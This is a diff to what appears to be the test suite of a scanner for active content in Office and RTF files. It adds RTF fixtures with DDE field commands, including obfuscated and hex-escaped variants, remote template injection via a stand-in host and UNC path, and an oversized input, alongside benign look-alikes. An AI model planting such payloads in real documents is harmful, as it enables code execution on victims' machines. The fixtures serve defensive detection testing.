@@ -118,6 +118,10 @@ ACTING: dict[str, tuple[bytes, str]] = {
     "DDE in references": (sheet("worksheets/sheet1.xml", '<x:f t="a">1+cmd&#x7C;\'/C calc\'!A0</x:f>'), "DDE"),
     "data of a server": (sheet("connections.xml", '<connection><webPr url="https://a.example"/>'), "from elsewhere"),
     "an object of a sheet": (sheet("externalLinks/externalLink1.xml", "<oleLink r:id='a'/>"), "data from elsewhere"),
+    "a letter's field": (rb"{\rtf1 {\field{\*\fldinst {\rtlch\fcs1 \af0 DD}{\b E}{AUTO cmd}}}}", "DDE"),
+    "a letter's field in numbers": (rb"{\rtf1 {\field{\*\fldinst\'44\'64\'45 cmd}}}", "DDE"),
+    "a letter's template": (rb"{\rtf1{\*\template https://collect.example/a.dotm}}", "template"),
+    "a letter's template of a server": (rb"{\rtf1{\*\template \\\\collect.example\\a.dotm}}", "template"),
 }  # fmt: skip
 
 
@@ -141,6 +145,8 @@ IDLE: dict[str, bytes] = {
     "words about it": package(("word/a.xml", LETTER), ("word/b.xml", runs(' HYPERLINK "https://a.example/DDE"'))),
     "a chart with its table": related(bound("package", "../embeddings/a.xlsx", mode="")),
     "formulas with bars in words": sheet("worksheets/sheet1.xml", '<c><f>A1&amp;" | "&amp;B1</f><v>a|b!c</v></c>'),
+    "a letter": rb"{\rtf1{\*\template C:\\Normal.dotm}{\field{\*\fldinst{HYPERLINK '\'64e'}}{\fldrslt dde}}}",
+    "another letter": rb"{\rtf1{\*\template Normal.dotm}{\field{\*\fldinst PAGE}}}",
     "names of fields": sheet("sharedStrings.xml", "<t>ddeLink, webPr, cmd|x</t>"),
 }  # fmt: skip
 
@@ -168,6 +174,7 @@ HOSTILE: dict[str, Callable[[], bytes]] = {
     "fields without end": lambda: package(("word/a.xml", b"<fldSimple " * 1_400_000)),
     "formulas": lambda: sheet("worksheets/a.xml", "<f>&#124;" * 1_500_000),
     "bars": lambda: sheet("worksheets/a.xml", "<f>" + "a |" * 5_000_000),
+    "fields of letters": lambda: b"{\\rtf1" + b"\\fldinst" * 1_000_000,
     "bombs": lambda: hollow(100, bytes(1_000_000)),
     "parts": lambda: hollow(2000, b"<a/>"),
     "one part in 1900 names": lambda: hollow(1900, b"<f>" * 100_000),
